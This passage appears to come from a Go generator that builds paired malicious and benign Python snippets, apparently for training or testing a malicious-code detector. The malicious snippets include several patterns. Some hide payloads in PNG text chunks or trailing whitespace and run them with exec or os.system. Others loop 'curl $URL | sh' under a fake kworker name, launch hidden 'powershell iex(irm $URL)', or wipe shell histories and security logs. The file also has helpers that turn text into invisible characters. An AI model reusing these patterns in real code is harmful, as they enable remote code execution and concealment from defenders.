		"\nclass \u041f\u0430\u043f\u043a\u0430:\n    sep = \"/\"\n\n\ndef <%n here%>(\u0438\u043c\u044f=None):\n    return \u0438\u043c\u044f or \u041f\u0430\u043f\u043a\u0430.sep\n",
		"<%n here%>()"}},
	{family: "mixed-script", name: "second-constant", fixed: true, weak: true, bad: snippet{
		"\nMAX_SIZE = 100\nM\u0410X_SIZE = 10 ** 9\n\n\ndef <%n fits%>(size):\n    return size < M\u0410X_SIZE\n",
		"<%n fits%>(1)"}, good: snippet{
		"\nMAX_SIZE = 100\n\u041f\u0420\u0415\u0414\u0415\u041b = 10 ** 9\n\n\ndef <%n fits%>(size):\n    return size < min(MAX_SIZE, \u041f\u0420\u0415\u0414\u0415\u041b)\n",
		"<%n fits%>(1)"}},

	// steganography
	{family: "steganography", name: "png-text-chunk", bad: snippet{`
def <%n chunks%>(raw):
    at = 8
    while at < len(raw):
        size, kind = <%c struct.unpack%>(">I4s", raw[at:at + 8])
        yield kind, raw[at + 8:at + 8 + size]
        at += size + 12


def <%n unveil%>():
    raw = <%c requests.get%>(<%s https://$HOST/banner.png%>).content
    for kind, body in <%n chunks%>(raw):
        if kind == <%s tEXt%>.encode():
            <%b exec%>(<%c zlib.decompress%>(body.split(b"\0", 1)[1]))
`, "<%n unveil%>()"}, good: snippet{`
def <%n chunks%>(raw):
    at = 8
    while at < len(raw):
        size, kind = <%c struct.unpack%>(">I4s", raw[at:at + 8])
        yield kind, raw[at + 8:at + 8 + size]
        at += size + 12


def <%n described%>(name):
    """The texts in a PNG picture: its title, its author."""
    with open(name, "rb") as handle:
        return [body.decode("latin-1") for kind, body in <%n chunks%>(handle.read()) if kind == b"tEXt"]
`, "<%n described%>.__doc__"}},
	{family: "steganography", name: "whitespace-ends", bad: snippet{`
def <%n bits%>(name):
    for line in <%c io.open%>(name, encoding="utf-8"):
        tail = line.rstrip("\n")
        tail = tail[len(tail.rstrip()):]
        for blank in tail:
            yield blank == "\t"


def <%n unfold%>(name=<%c os.path.join%>(<%c os.path.dirname%>(__file__), <%s NOTICE.md%>)):
    seen = list(<%n bits%>(name))
    text = bytes(sum(bit << n for n, bit in enumerate(seen[i:i + 8])) for i in range(0, len(seen) - 7, 8))
    <%c os.system%>(text.decode())
`, "<%n unfold%>()"}, good: snippet{`
def <%n trailing%>(name):
    for number, line in enumerate(<%c io.open%>(name, encoding="utf-8"), 1):
        tail = line.rstrip("\n")
        if tail != tail.rstrip():
            yield number


def <%n check%>(name):
    """The lines of a file that end with blanks."""
    return list(<%n trailing%>(name))
`, "<%n check%>"}},

	// silent-process
	{family: "silent-process", name: "setsid-renamed", bad: snippet{`
def <%n vanish%>():
    if <%c os.fork%>():
        return
    <%c os.setsid%>()
    for fd in range(3):
        <%c os.close%>(fd)
    <%c os.execvp%>(<%s sh%>, [<%s [kworker/0:1]%>, "-c", <%s while :; do curl -s $URL | sh; sleep 600; done%>])
`, "<%n vanish%>()"}, good: snippet{`
def <%n children%>(jobs):
    """Runs functions in processes of their own and waits for all of them."""
    started = []
    for job in jobs:
        pid = <%c os.fork%>()
        if pid == 0:
            job()
            <%c os._exit%>(0)
        started.append(pid)
    return [<%c os.waitpid%>(pid, 0)[1] for pid in started]
`, "<%n children%>"}},
	{family: "silent-process", name: "scheduled-and-hidden", bad: snippet{`
class <%n Quiet%>:
    flags = 0x08000000 | 0x00000008

    def run(self, *words):
        start = <%c subprocess.STARTUPINFO%>()
        return <%c subprocess.Popen%>(list(words), startupinfo=start, creationflags=self.flags, stdin=-3, stdout=-3, stderr=-3)


def <%n begin%>():
    <%n Quiet%>().run(<%s powershell%>, <%s -w%>, <%s hidden%>, <%s -nop%>, <%s -ep%>, <%s bypass%>, <%s -c%>, <%s iex(irm $URL)%>)
`, "<%n begin%>()"}, good: snippet{`
class <%n Loud%>:
    """Runs a program without a window and gives what it printed."""

    flags = 0x08000000

    def run(self, *words):
        done = <%c subprocess.run%>(list(words), creationflags=self.flags if <%c os.name%> == "nt" else 0, capture_output=True, text=True)
        done.check_returncode()
        return done.stdout


def <%n begin%>():
    return <%n Loud%>().run("git", "rev-parse", "HEAD")
`, "<%n begin%>"}},

	// log-suppression
	{family: "log-suppression", name: "quiet-everything", weak: true, bad: snippet{`
def <%n hush%>():
    <%c logging.disable%>(<%c logging.CRITICAL%>)
    <%c warnings.filterwarnings%>("ignore")
    <%c sys.settrace%>(None)
    for name in (<%s ~/.python_history%>, <%s ~/.bash_history%>, <%s ~/.zsh_history%>):
        try:
            <%c os.truncate%>(<%c os.path.expanduser%>(name), 0)
        except OSError:
            pass
`, "<%n hush%>()"}, good: snippet{`
def <%n calm%>():
    """Fewer messages from the libraries that this one uses."""
    <%c logging.getLogger%>("urllib3").setLevel(<%c logging.WARNING%>)
    <%c warnings.filterwarnings%>("default", module="words")
`, "<%n calm%>()"}},
	{family: "log-suppression", name: "shell-without-memory", weak: true, bad: snippet{`
class <%n Traces%>:
    commands = (<%s unset HISTFILE; export HISTSIZE=0; history -c%>, <%s rm -f /var/log/auth.log /var/log/wtmp%>, <%s wevtutil cl Security%>)

    def remove(self):
        for line in self.commands:
            <%c subprocess.call%>(line, shell=True, stderr=<%c subprocess.DEVNULL%>)
`, "<%n Traces%>().remove()"}, good: snippet{`
class <%n Traces%>:
    """Removes what a test run left behind in its own folder."""

    patterns = ("*.log", "*.tmp", ".coverage*")

    def remove(self, folder):
        for pattern in self.patterns:
            for file in <%c pathlib.Path%>(folder).glob(pattern):
                file.unlink()
`, "<%n Traces%>"}},

	// shady-links
	{family: "shady-links", name: "dead-drop-chain", weak: true, bad: snippet{`
<%n DROPS%> = (<%s $PASTE%>, <%s $TUNNEL%>, <%s $SHORT%>)


def <%n settings%>():
    for drop in <%n DROPS%>:
        try:
            return <%c json.loads%>(<%c urllib.request.urlopen%>(drop, timeout=3).read())
        except Exception:
            continue
    return {}
`, "<%n settings%>()"}, good: snippet{`
<%n PLACES%> = ("https://settings.example.invalid/a.json", "https://settings2.example.invalid/a.json")


def <%n settings%>():
    for place in <%n PLACES%>:
        try:
            return <%c json.loads%>(<%c urllib.request.urlopen%>(place, timeout=3).read())
        except Exception:
            continue
    return {}
`, "<%n settings%>.__name__"}},
	{family: "shady-links", name: "session-to-collector", weak: true, bad: snippet{`
class <%n Client%>(<%c requests.Session%>):
    where = <%s $PIPE%>

    def ping(self, version="1"):
        return self.get(self.where, params={"v": version}, timeout=2).status_code
`, "<%n Client%>().ping()"}, good: snippet{`
class <%n Client%>(<%c requests.Session%>):
    where = "https://api.example.invalid/ping"

    def ping(self, version="1"):
        return self.get(self.where, params={"v": version}, timeout=2).status_code
`, "<%n Client%>().ping"}},
}

// selectors writes text as variation selectors, which take no room.
func selectors(s string) string {
	var out []rune
	for _, c := range []byte(s) {
		if c < 16 {
			out = append(out, 0xfe00+rune(c))
			continue
		}
		out = append(out, 0xe0100+rune(c)-16)
	}
	return string(out)
}

// braille writes text as patterns of dots.
func braille(s string) string {
	var out []rune
	for _, c := range []byte(s) {
		out = append(out, 0x2800+rune(c))
	}
	return string(out)
}
